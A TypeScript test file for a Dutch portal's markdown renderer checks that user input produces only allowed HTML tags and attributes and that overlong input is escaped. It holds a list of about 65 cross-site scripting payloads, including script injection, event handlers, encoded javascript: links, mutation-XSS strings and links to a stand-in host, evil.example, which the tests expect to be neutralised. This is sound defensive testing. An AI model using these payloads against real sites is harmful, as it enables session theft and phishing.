import sanitizeHtml from "sanitize-html";
import { describe, expect, test } from "vitest";
import { LONGEST_MARKDOWN, toHtml, toHtmlMany } from "#app/platform/markdown.ts";

const TAGS = new Set(["p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "del", "a", "br", "hr", "table", "thead", "tbody", "tr", "th", "td", "img"]);
const ATTRIBUTES = new Set(["href", "title", "rel", "src", "alt", "start", "scope"]);

/** Everything in this HTML that is not on the list, found by a parser and not by our own code. */
function violations(html: string): string[] {
  const found: string[] = [];
  sanitizeHtml(html, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    onOpenTag(tag, attributes) {
      if (!TAGS.has(tag)) found.push(`<${tag}>`);
      for (const [name, value] of Object.entries(attributes)) {
        if (!ATTRIBUTES.has(name)) found.push(`${tag} ${name}`);
        if (name === "href" && !/^(https?:\/\/|mailto:|\/(?![/\\])|[#?]|[\w.-]+(\/|$))/i.test(value)) found.push(`${tag} ${name}=${value}`);
        if (name === "src" && !/^\/(?![/\\])/.test(value)) found.push(`${tag} ${name}=${value}`);
      }
    },
  });
  return found;
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](<java\u0000script:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](//evil.example)",
  "[x](/\\evil.example)",
  "[x](\\\\evil.example)",
  "[x](https://bank.example@evil.example)",
  "[x](blob:https://a.example/1)",
  "[x](file:///etc/passwd)",
  "<javascript:alert(1)>",
  "<javascript&colon;alert(1)>",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/pixel.png)",
  "![x](//evil.example/pixel.png)",
  "![x](/\\evil.example/pixel.png)",
  "![\" onerror=\"alert(1)](/a.png)",
  "![x](/a.png\" onerror=\"alert(1))",
  "[x](/a \"t\\\" onmouseover=\\\"alert(1)\")",
  "[x](https://a.example 'q\" onclick=\"alert(1)')",
  "[a][r]\n\n[r]: javascript:alert(1)",
  "[a][r]\n\n[r]: <data:text/html,x> 'x'",
  "`<script>alert(1)</script>`",
  "```\"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
  "```js\" onmouseover=\"alert(1)\nx\n```",
  "    <script>alert(1)</script>",
  "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
  "> <div onclick=alert(1)>\n> [x](javascript:alert(1))",
  "**<b onmouseover=alert(1)>vet</b>**",
  "[<img src=x onerror=alert(1)>](https://a.example)",
  "[![x](javascript:alert(1))](javascript:alert(2))",
  "<a id=location name=cookie class=x style='position:fixed'>clobber</a>",
  "<form action=https://evil.example><input name=password></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example>",
  "<style>@import 'https://evil.example'</style>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version=\"1.0\"?><script>alert(1)</script>",
  "<<script>script>alert(1)<</script>/script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "- [ ] <script>alert(1)</script>\n- [x] [x](javascript:alert(1))",
  "~~<svg><script>alert(1)</script></svg>~~",
  "https://evil.example/\"onmouseover=alert(1)",
  "www.evil.example/\"><script>alert(1)</script>",
  "mailto:a@b.nl\"onclick=alert(1)",
  "# <script>alert(1)</script> {#id onclick=alert(1)}",
  "<p\u000conclick=alert(1)>x",
  "<x/onclick=alert(1)//",
  "\ufeff\u200b<script>alert(1)</script>",
];

describe("Markdown from people", () => {
  test("becomes headings below those of the page, lists, tables and links that vouch for nothing", async () => {
    const html = await toHtml("# Doel\n\nEen **vet** woord en [een link](https://vng.nl).\n\n- een\n- twee\n\n| a | b |\n|---|---|\n| 1 | 2 |");

    expect(html).toContain("<h3>Doel</h3>");
    expect(html).toContain('<a href="https://vng.nl" rel="nofollow noopener noreferrer ugc">een link</a>');
    expect(html).toContain("<li>een</li>");
    expect(html).toContain('<th scope="col">a</th>');
  });

  test("may link within the portal", async () => {
    expect(await toHtml("[VEI-001](/voorstellen/VEI-001)")).toContain('href="/voorstellen/VEI-001"');
  });

  test.each(ATTACKS)("has nothing outside the list: %s", async (attack) => {
    const html = await toHtml(attack);

    expect(violations(html)).toEqual([]);
    expect(violations(html.replaceAll("&amp;", "&"))).toEqual([]);
  });

  test("has nothing outside the list when attacks are nested in one another", async () => {
    const nested = ATTACKS.flatMap((attack) => [`> - ${attack}`, `**${attack}**`, `[${attack}](/a)`, `| ${attack} |\n|---|\n| ${attack} |`, `1. x\n\n   ${attack}`]);

    const all = await toHtmlMany(nested);

    expect(all.flatMap(violations)).toEqual([]);
  });

  test("that takes too long is shown as typed, and the next text is rendered as usual", async () => {
    const slow = "_a__".repeat(LONGEST_MARKDOWN / 4);
    const started = performance.now();

    const html = await toHtml(slow);
    const next = await toHtml("*gewoon*");

    expect(html.startsWith("<p>_a___a__")).toBe(true);
    expect(performance.now() - started).toBeLessThan(5_000);
    expect(next).toBe("<p><em>gewoon</em></p>\n");
  });

  test("that nests too deep or is too long is shown as typed, escaped", async () => {
    expect(violations(await toHtml(">".repeat(20_000) + "<script>"))).toEqual([]);
    expect(await toHtml("<b>" + "x".repeat(LONGEST_MARKDOWN))).toContain("&#60;b&#62;xxx");
  });

  test("is rendered once, however often it is asked for", async () => {
    const source = "een keer " + "woord ".repeat(2_000);
    await toHtml(source);
    const started = performance.now();

    await toHtmlMany(Array.from({ length: 200 }, () => source));

    expect(performance.now() - started).toBeLessThan(100);
  });
});
